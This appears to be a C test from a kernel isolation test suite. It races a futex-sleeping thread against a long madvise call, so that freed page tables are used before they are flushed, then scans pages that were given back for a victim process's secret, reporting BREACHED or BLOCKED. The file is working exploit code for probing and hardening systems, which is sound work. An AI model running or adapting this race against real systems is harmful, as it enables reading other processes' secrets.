// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on page tables by threads of one process: one runs while another one is in a call. One CPU is enough, as
 * the kernel schedules in long calls. They only use system calls, and never touch the stub.
 */
#include "hostile.h"

#define THREAD_STACK	(16 * PAGE)
#define THREAD_SECONDS	20	/* of own_time(), at most */
#define FEEDS		96	/* 16 pages each: more than the pages that were freed */

pid_t start_thread(int (*run)(void *), void *arg)
{
	char *stack = mmap(NULL, THREAD_STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pid_t pid = -1;

	if (stack != MAP_FAILED)
		pid = clone(run, stack + THREAD_STACK, CLONE_VM | SIGCHLD, arg);
	if (pid < 0)
		conclude(INCONCLUSIVE, "clone: %s", strerror(errno));
	return pid;
}

static void end_threads(void)
{
	shared->stop = true;
	while (waitpid(-1, NULL, 0) > 0)
		;
}

static size_t feed_and_scan(char *at, size_t size)
{
	size_t secrets = 0, offset;
	unsigned int i;

	for (i = 0; i < FEEDS && !secrets; i++) {
		feed_victim();
		for (offset = 0; offset < size; offset += PAGE)
			if (readable((uintptr_t)at + offset))
				secrets += scan_for_secret((uintptr_t)at + offset, PAGE);
	}
	return secrets;
}

/* ---- a long call: the kernel walks empty page tables of the second level */

#define GIB		(1UL << 30)
#define MOST_GIB	2048UL	/* on each side; a page of memory for each */
#define CHUNK		64UL	/* filled at a time */

/* A table's place, in the middle of the walked range */
static char *const place = (char *)(32UL << 40);
static size_t reach;	/* before it and behind it, in GiB */

static void touch(char *from, size_t gib)
{
	size_t i;

	for (i = 0; i < gib; i++)
		from[i * GIB] = 1;
	/* This frees the tables of the lowest level; the others stay. */
	if (madvise(from, gib * GIB, MADV_DONTNEED))
		conclude(INCONCLUSIVE, "madvise: %s", strerror(errno));
}

static void reach_to(size_t gib)
{
	for (; reach < gib; reach += CHUNK) {
		touch(place - (reach + CHUNK) * GIB, CHUNK);
		touch(place + GIB + reach * GIB, CHUNK);
	}
}

static void prepare_walk(size_t gib)
{
	const size_t size = (2 * MOST_GIB + 1) * GIB;

	if (mmap(place - MOST_GIB * GIB, size, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0) == MAP_FAILED)
		conclude(INCONCLUSIVE, "mmap of %zu bytes: %s", size, strerror(errno));
	reach_to(gib);
}

/* Drops the place within a long empty range. @shift: by how many GiB the range begins later */
static long walk(size_t shift)
{
	return syscall(SYS_madvise, place - (reach - shift) * GIB, (2 * reach + 1 - shift) * GIB, MADV_DONTNEED);
}

/* ---- partial-sync: a page table is freed and not flushed yet, and another thread needs the stub */

#define NAP_NS		100000
#define NAPS		6U	/* in one walk, so that its middle is in one of them */
#define MARKS		64U	/* pages of the place with the sleeper's words, */
#define FILLED		128U	/* and pages behind them that the attacker wants to keep */
#define ROUNDS		48U

static volatile unsigned int order, seen;	/* odd: sleep in the place */
static volatile long nap_ns;

/*
 * A futex wait reads its word, so the kernel maps the word's page and marks it for synchronisation. Then the thread
 * sleeps. When it wakes up, it synchronises that page, and no other.
 */
static int sleep_in_place(void *arg)
{
	static struct timespec nap;
	static uint32_t elsewhere;

	(void)arg;
	while (!shared->stop) {
		unsigned int now = order, at = shared->at;
		uint32_t *word = &elsewhere;

		seen = now;
		nap.tv_nsec = nap_ns;
		if (now % 2 && at < MARKS)
			word = (uint32_t *)(place + at * PAGE);
		syscall(SYS_futex, word, FUTEX_WAIT | FUTEX_PRIVATE_FLAG, 0, &nap, NULL, 0);
		if (now % 2)
			shared->at = at + 1;
	}
	_exit(0);
}

static size_t count_forgotten(const char *kept)
{
	size_t at, n = 0;

	for (at = 0; at < FILLED * PAGE; at += PAGE)
		n += kept[at] != 0;
	return n;
}

void partial_sync(void)
{
	double end = own_time() + THREAD_SECONDS;
	char *const kept = place + MARKS * PAGE;
	size_t forgotten = 0, secrets = 0;
	unsigned int round = 0;

	drop_privileges();
	prepare_walk(2 * CHUNK);
	nap_ns = NAP_NS;
	start_thread(sleep_in_place, NULL);
	while (round < ROUNDS && !forgotten && own_time() < end) {
		step("giving back a page table, round %u, with %zu GiB on each side", round, reach);
		memset(kept, 'A', FILLED * PAGE);
		/* Each round frees the table at another moment of a nap, with naps of three lengths */
		nap_ns = NAP_NS << round % 3;
		shared->at = 0;
		order++;
		if (walk(round * 5 % 32))
			conclude(INCONCLUSIVE, "madvise: %s", strerror(errno));
		if (shared->at >= NAPS)
			round++;
		else if (reach < MOST_GIB)
			reach_to(2 * reach);
		order++;
		while (seen != order)
			sched_yield();
		forgotten = count_forgotten(kept);
	}
	if (forgotten)
		secrets = feed_and_scan(kept, FILLED * PAGE);
	end_threads();
	if (forgotten)
		conclude(BREACHED, "in round %u %zu of %u pages given back were still there, the victim's secret in %zu",
			 round, forgotten, FILLED, secrets);
	if (!round)
		conclude(INCONCLUSIVE, "no thread woke up %u times in a call of %zu GiB", NAPS, reach);
	conclude(BLOCKED, "%u page tables given back while a thread slept and woke up in them: nothing was still there",
		 round);
}
